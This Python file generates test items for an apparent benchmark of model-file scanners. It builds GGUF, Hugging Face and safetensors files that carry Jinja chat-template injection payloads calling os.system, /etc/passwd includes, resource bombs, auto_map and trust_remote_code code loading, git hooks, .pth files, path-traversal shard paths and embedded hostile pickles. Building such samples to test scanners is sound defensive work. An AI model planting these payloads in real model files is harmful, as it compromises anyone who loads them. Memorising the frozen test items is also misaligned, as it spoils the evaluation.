"""Model, data and text files of formats other than pickle that act, reach outside or break their reader. Frozen with the generators (scan.py, `FROZEN`).

Needs numpy, h5py and pyarrow (the evaluation's own environment); GGUF is written by hand.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

from scan_assembler import CODE, COMMAND, Item, as_json
from scan_containers import EVIL, npy, torch_zip, zipped
from scan_documents import documents
from scan_graphs import onnx, tensorflow
from scan_keras import keras, keras_h5, lambda_config

# --- GGUF --------------------------------------------------------------------------------------------------------------------------------

TEMPLATES = {
    "globals-of-lipsum": "{{ lipsum.__globals__['os'].system('%s') }}",
    "cycler": "{{ cycler.__init__.__globals__.os.system('%s') }}",
    "joiner": "{{ joiner.__init__.__globals__['os'].popen('%s').read() }}",
    "namespace": "{{ namespace.__init__.__globals__.os.system('%s') }}",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attr-filter": "{{ ''|attr('__class__')|attr('__base__') }}",
    "attr-of-a-join": "{{ ''|attr(['__cl','ass__']|join) }}",
    "attr-by-concatenation": "{{ ''['__cl' ~ 'ass__'] }}",
    "attr-by-escape": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "attr-by-variable": "{% set a = '__cla' %}{% set b = 'ss__' %}{{ messages[a + b] }}",
    "map-attribute": "{{ messages|map(attribute='__class__.__init__')|list }}",
    "selectattr": "{{ messages|selectattr('__class__')|list }}",
    "groupby": "{{ messages|groupby('__class__') }}",
    "sort-attribute": "{{ messages|sort(attribute='__class__') }}",
    "self": "{{ self.__init__.__globals__ }}",
    "self-reference": "{{ self._TemplateReference__context.cycler }}",
    "loop": "{% for m in messages %}{{ loop.__class__ }}{% endfor %}",
    "macro-globals": "{% macro m() %}{% endmacro %}{{ m.__class__ }}",
    "raise-exception-globals": "{{ raise_exception.__globals__ }}",
    "strftime-globals": "{{ strftime_now.__globals__['os'] }}",
    "tojson-globals": "{{ messages.tojson.__globals__ }}",
    "format-string": "{{ '{0.__class__}'.format(messages) }}",
    "format-filter": "{{ '%%s'|format(messages.__class__) }}",
    "format-map": "{{ '{x.__class__}'.format_map({'x': messages}) }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'x' as y %}{{ y }}",
    "from-import": "{% from 'x' import y %}{{ y }}",
    "extends": "{% extends '/etc/passwd' %}",
    "range-bomb": "{% for i in range(10**12) %}{{ i }}{% endfor %}",
    "power-bomb": "{{ 9**9**9 }}",
    "repeat-bomb": "{{ 'x' * 10000000000 }}",
    "nested-loops": "{% for a in range(100000) %}{% for b in range(100000) %}{% for c in range(100000) %}x{% endfor %}{% endfor %}{% endfor %}",
    "call-of-a-global": "{{ get_flashed_messages.__globals__ }}",
    "config": "{{ config.from_object('os') }}",
    "eval-filter": "{{ messages|eval }}",
    "dict-items": "{{ dict.__base__ }}",
    "do-append": "{% do messages.__class__.__base__ %}",
    "hidden-in-a-branch": "{% if messages|length > 10000 %}{{ messages.__class__.__init__.__globals__ }}{% endif %}",
    "hidden-in-a-default": "{% macro m(a=''.__class__) %}{{ a }}{% endmacro %}",
    "hidden-in-a-comment-like": "{#- x -#}{{ (messages).__class__ }}",
    "whitespace-control": "{%- set x = ''.__class__ -%}{{- x -}}",
    "filter-block": "{% filter attr('__class__') %}x{% endfilter %}",
    "call-block": "{% call(x) cycler.__init__() %}{% endcall %}",
    "with-block": "{% with x = ''.__class__ %}{{ x }}{% endwith %}",
    "set-block": "{% set x %}{{ ''.__class__ }}{% endset %}",
    "slice": "{{ messages[''.__class__:] }}",
    "ternary": "{{ ''.__class__ if true else 1 }}",
    "test-with-argument": "{{ 1 is divisibleby(''.__class__) }}",
    "mro-by-number": "{{ (1).__class__.mro() }}",
    "generator-frame": "{{ (messages|map('upper')).gi_frame.f_globals }}",
}  # fmt: skip


def _string(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return struct.pack("<Q", len(raw)) + raw


def gguf(
    pairs: list[tuple[str, int, bytes]],
    tensors: list[tuple[str, list[int], int, int]] | None = None,
    data: bytes = b"",
    *,
    version: int = 3,
    counts: tuple[int, int] | None = None,
) -> bytes:
    tensors = tensors or []
    head = b"GGUF" + struct.pack("<IQQ", version, *(counts or (len(tensors), len(pairs))))
    for key, kind, value in pairs:
        head += _string(key) + struct.pack("<I", kind) + value
    for tensor, shape, kind, offset in tensors:
        head += (
            _string(tensor)
            + struct.pack("<I", len(shape))
            + b"".join(struct.pack("<Q", size) for size in shape)
            + struct.pack("<IQ", kind, offset)
        )
    return head + bytes(-len(head) % 32) + data


ARCH = ("general.architecture", 8, _string("llama"))


def _gguf() -> Iterator[tuple[str, bytes]]:
    for label, template in TEMPLATES.items():
        value = template.replace("%s", COMMAND).replace("%%", "%")
        yield f"template:{label}", gguf([ARCH, ("tokenizer.chat_template", 8, _string(value))])
    evil = _string(TEMPLATES["cycler"].replace("%s", COMMAND))
    yield (
        "template:named",
        gguf([ARCH, ("tokenizer.chat_template", 8, _string("{{ messages }}")), ("tokenizer.chat_template.tool_use", 8, evil)]),
    )
    yield "template:in-a-list", gguf([ARCH, ("tokenizer.chat_templates", 9, struct.pack("<IQ", 8, 1) + evil)])
    yield "template:twice", gguf([ARCH, ("tokenizer.chat_template", 8, _string("{{ messages }}")), ("tokenizer.chat_template", 8, evil)])
    yield "count-huge", gguf([ARCH], counts=(0, 1 << 60))
    yield "tensors-huge", gguf([ARCH], counts=(1 << 60, 1))
    yield "string-huge", gguf([("general.architecture", 8, struct.pack("<Q", 1 << 62) + b"llama")])
    yield "array-huge", gguf([("x", 9, struct.pack("<IQ", 0, 1 << 61))])
    yield "array-nested", gguf([("x", 9, (struct.pack("<IQ", 9, 1)) * 10_000)])
    yield "type-unknown", gguf([("x", 77, b"")])
    yield "tensor-out-of-range", gguf([ARCH], [("w", [4, 4], 0, 1 << 40)], bytes(64))
    yield "tensor-overflow", gguf([ARCH], [("w", [1 << 33, 1 << 33], 0, 0)], bytes(64))
    yield "tensor-overlap", gguf([ARCH], [("a", [16], 0, 0), ("b", [16], 0, 32)], bytes(96))
    yield "tensor-twice", gguf([ARCH], [("a", [8], 0, 0), ("a", [8], 0, 32)], bytes(64))
    yield "dimensions-many", gguf([ARCH], [("a", [1] * 1000, 0, 0)], bytes(32))
    yield "alignment-zero", gguf([ARCH, ("general.alignment", 4, bytes(4))], [("a", [8], 0, 0)], bytes(32))
    yield "alignment-odd", gguf([ARCH, ("general.alignment", 4, struct.pack("<I", 7))], [("a", [8], 0, 0)], bytes(32))
    yield "version-99", gguf([ARCH], version=99)
    yield "trailing-pickle", gguf([ARCH], [("a", [8], 0, 0)], bytes(32) + EVIL)


# --- Hugging Face folders ----------------------------------------------------------------------------------------------------------------

BERT = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8}


def _safe() -> bytes:
    header = as_json({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}})
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bytes(8)


def _hugging_face() -> Iterator[tuple[str, dict[str, bytes]]]:
    source = b"import os\nclass Net:\n    def __init__(self):\n        os.system('x')\n"
    weights = {"model.safetensors": _safe()}
    yield (
        "auto-map-tokenizer",
        {
            "config.json": as_json(BERT),
            "tokenizer_config.json": as_json({"auto_map": {"AutoTokenizer": ["tok.Tok", None]}}),
            "tok.py": source,
            **weights,
        },
    )
    yield (
        "auto-map-processor",
        {
            "config.json": as_json(BERT),
            "preprocessor_config.json": as_json({"auto_map": {"AutoProcessor": "p.P"}}),
            "p.py": source,
            **weights,
        },
    )
    yield (
        "auto-map-feature-extractor",
        {
            "config.json": as_json(BERT),
            "processor_config.json": as_json({"auto_map": {"AutoFeatureExtractor": "other/repo--p.P"}}),
            **weights,
        },
    )
    yield (
        "auto-map-nested",
        {"config.json": as_json({**BERT, "text_config": {"auto_map": {"AutoConfig": "c.C"}}}), "c.py": source, **weights},
    )
    yield (
        "auto-map-generation",
        {"config.json": as_json(BERT), "generation_config.json": as_json({"auto_map": {"AutoModel": "g.G"}}), "g.py": source, **weights},
    )
    yield (
        "custom-pipelines",
        {"config.json": as_json({**BERT, "custom_pipelines": {"x": {"impl": "p.P", "pt": ["AutoModel"]}}}), "p.py": source, **weights},
    )
    yield "custom-generate", {"config.json": as_json(BERT), "custom_generate/generate.py": source, **weights}
    yield (
        "trust-remote-code",
        {"config.json": as_json({**BERT, "trust_remote_code": True, "auto_map": {"AutoModel": "m.M"}}), "m.py": source, **weights},
    )
    yield (
        "diffusers-index",
        {
            "model_index.json": as_json({"_class_name": "StableDiffusionPipeline", "unet": ["os", "system"]}),
            "unet/config.json": as_json({"_class_name": "UNet2DConditionModel"}),
        },
    )
    yield (
        "diffusers-custom-file",
        {
            "model_index.json": as_json({"_class_name": ["pipeline", "MyPipeline"], "unet": ["unet_mod", "MyUnet"]}),
            "pipeline.py": source,
            "unet/unet_mod.py": source,
        },
    )
    yield (
        "sentence-transformers-type",
        {"modules.json": as_json([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]), "config.json": as_json(BERT), **weights},
    )
    yield (
        "sentence-transformers-own-code",
        {
            "modules.json": as_json([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]),
            "custom_st.py": source,
            "config.json": as_json(BERT),
            **weights,
        },
    )
    yield (
        "sentence-transformers-activation",
        {
            "modules.json": as_json([{"idx": 0, "name": "0", "path": "1_Dense", "type": "sentence_transformers.models.Dense"}]),
            "1_Dense/config.json": as_json({"in_features": 2, "out_features": 2, "activation_function": "os.system"}),
            "config.json": as_json(BERT),
            **weights,
        },
    )
    yield (
        "shard-outside",
        {"config.json": as_json(BERT), "model.safetensors.index.json": as_json({"weight_map": {"w": "../../../etc/passwd"}})},
    )
    yield "shard-absolute", {"config.json": as_json(BERT), "pytorch_model.bin.index.json": as_json({"weight_map": {"w": "/tmp/x.bin"}})}
    yield (
        "shard-is-a-pickle",
        {
            "config.json": as_json(BERT),
            "model.safetensors.index.json": as_json({"weight_map": {"w": "model-1.safetensors"}}),
            "model-1.safetensors": torch_zip(EVIL),
        },
    )
    for label in ("cycler", "attr-by-concatenation", "include", "subclasses", "range-bomb"):
        template = TEMPLATES[label].replace("%s", COMMAND)
        yield (
            f"template-text-{label}",
            {"config.json": as_json(BERT), "tokenizer_config.json": as_json({"chat_template": template}), **weights},
        )
        yield (
            f"template-list-{label}",
            {
                "config.json": as_json(BERT),
                "tokenizer_config.json": as_json(
                    {"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": template}]}
                ),
                **weights,
            },
        )
        yield (
            f"template-file-{label}",
            {"config.json": as_json(BERT), "tokenizer_config.json": b"{}", "chat_template.jinja": template.encode(), **weights},
        )
        yield (
            f"template-folder-{label}",
            {"config.json": as_json(BERT), "additional_chat_templates/rag.jinja": template.encode(), **weights},
        )
        yield (
            f"template-json-{label}",
            {"config.json": as_json(BERT), "chat_template.json": as_json({"chat_template": template}), **weights},
        )
    yield "git-hook", {"config.json": as_json(BERT), ".git/hooks/post-checkout": b"#!/bin/sh\ntouch /tmp/x\n", **weights}
    yield "git-config", {"config.json": as_json(BERT), ".git/config": b"[core]\n\tfsmonitor = touch /tmp/x\n", **weights}
    yield "native-library", {"config.json": as_json(BERT), "libextra.so": b"\x7fELF\x02\x01\x01" + bytes(64), **weights}
    yield "pth-file", {"config.json": as_json(BERT), "x.pth": b"import os; os.system('x')\n", **weights}
    yield (
        "adapter-auto-mapping",
        {
            "adapter_config.json": as_json({"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}),
            "adapter_model.safetensors": _safe(),
        },
    )
    yield "setup-py", {"config.json": as_json(BERT), "setup.py": source, **weights}
    yield "flax-msgpack-pickle", {"config.json": as_json(BERT), "flax_model.msgpack": EVIL}
    yield "tf-h5-lambda", {"config.json": as_json(BERT), "tf_model.h5": keras_h5(lambda_config())}
    yield "rust-model-npz", {"config.json": as_json(BERT), "rust_model.ot": zipped({"w.npy": npy(EVIL)})}


# --- safetensors, text, data -------------------------------------------------------------------------------------------------------------


def _st(header: object, data: bytes = b"", *, length: int | None = None, raw: bytes | None = None) -> bytes:
    body = raw if raw is not None else as_json(header)
    return struct.pack("<Q", len(body) if length is None else length) + body + data


def _safetensors() -> Iterator[tuple[str, bytes]]:
    one = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    yield "gap", _st({"a": one, "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}, bytes(24))
    yield "negative", _st({"a": {"dtype": "F32", "shape": [-2], "data_offsets": [0, 8]}}, bytes(8))
    yield "reversed", _st({"a": {"dtype": "F32", "shape": [2], "data_offsets": [8, 0]}}, bytes(8))
    yield (
        "duplicate-key",
        _st(
            None,
            bytes(16),
            raw=b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}',
        ),
    )
    yield "float-offset", _st({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0.0, 8.0]}}, bytes(8))
    yield "overflow", _st({"a": {"dtype": "F64", "shape": [2**31, 2**31, 4], "data_offsets": [0, 8]}}, bytes(8))
    yield "unknown-dtype", _st({"a": {"dtype": "OBJ", "shape": [2], "data_offsets": [0, 8]}}, bytes(8))
    yield "extra-key", _st({"a": {**one, "code": CODE}}, bytes(8))
    yield "metadata-template", _st({"__metadata__": {"x": TEMPLATES["cycler"]}, "a": one}, bytes(8))
    yield "metadata-not-text", _st({"__metadata__": {"x": {"y": 1}}, "a": one}, bytes(8))
    yield "length-short", _st({"a": one}, bytes(8), length=10)
    yield "nested-bomb", _st(None, raw=b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    yield "data-is-zip", _st({"a": one}, bytes(8) + torch_zip(EVIL))
    yield "nan-in-header", _st(None, bytes(8), raw=b'{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,8]}}')


def items() -> Iterator[Item]:
    """All of it."""
    for technique, content in _gguf():
        yield Item("m.gguf", "gguf", f"gguf:{technique}", content, pickled=False)
    for technique, folder in _hugging_face():
        yield Item(
            "f", "hf-repo", f"hf:{technique}", folder, pickled=technique in ("shard-is-a-pickle", "flax-msgpack-pickle", "rust-model-npz")
        )
    for form, technique, file in keras():
        yield Item("m." + ("keras" if form == "keras-v3" else "h5"), form, f"keras:{technique}", file, pickled=False)
    for technique, folder in tensorflow():
        yield Item("f", "tf-savedmodel", f"tf:{technique}", folder, pickled=False)
    for technique, content in onnx():
        yield Item("m.onnx", "onnx", f"onnx:{technique}", content, pickled=False)
    for technique, content in _safetensors():
        yield Item("m.safetensors", "safetensors", f"safetensors:{technique}", content, pickled=False)
    for form, technique, thing in documents():
        yield Item("f" if isinstance(thing, dict) else "x", form, f"{form}:{technique}", thing, pickled=False)
